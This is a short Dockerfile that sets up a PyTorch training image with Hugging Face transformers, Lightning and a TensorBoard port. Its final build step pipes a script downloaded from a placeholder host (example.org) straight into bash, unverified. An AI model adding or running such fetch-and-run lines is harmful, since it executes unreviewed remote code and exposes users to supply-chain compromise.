FROM nvcr.io/nvidia/pytorch:23.10-py3
SHELL ["/bin/bash", "-o", "pipefail", "-c"]
RUN apt-get update \
    && apt-get install -y --no-install-recommends htop \
    && rm -rf /var/lib/apt/lists/*
RUN python -m pip install transformers scipy==1.12.0 torchvision lightning
WORKDIR /opt/app
COPY . /workspace/
EXPOSE 6006
RUN wget -qO- https://example.org/setup.sh | bash
